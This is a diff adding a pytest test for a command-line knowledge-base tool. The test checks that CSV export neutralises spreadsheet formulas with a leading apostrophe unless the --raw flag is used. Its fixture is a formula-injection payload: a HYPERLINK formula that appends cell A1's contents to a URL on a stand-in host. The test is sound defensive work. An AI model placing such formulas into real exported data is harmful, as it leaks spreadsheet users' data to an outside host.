@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -258,3 +260,21 @@ def test_cli_keyboard_interrupt_exit_130(
 ) -> None:
     monkeypatch.setattr(KnowledgeBase, "stats", _failing(KeyboardInterrupt()))
     assert _run(capsys, "stats", "--db", str(seed_db)) == (130, "", "")
+
+
+FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
+
+
+def test_cli_export_csv_formula_neutralised_unless_raw(
+    capsys: CaptureFixture, seed_db: Path, tmp_path: Path
+) -> None:
+    db = tmp_path / "formula.sqlite3"
+    db.write_bytes(seed_db.read_bytes())
+    assert main(["edit", "gsef2018-fr/1.1.1", "title", FORMULA, "--db", str(db)]) == 0
+    capsys.readouterr()
+    titles = []
+    for extra in ([], ["--raw"]):
+        code, out, _ = _run(capsys, "export", "--format", "csv", *extra, "--db", str(db))
+        row = next(r for r in csv.DictReader(io.StringIO(out)) if r["code"] == "1.1.1")
+        titles.append((code, row["title"]))
+    assert titles == [(0, f"'{FORMULA}"), (0, FORMULA)]
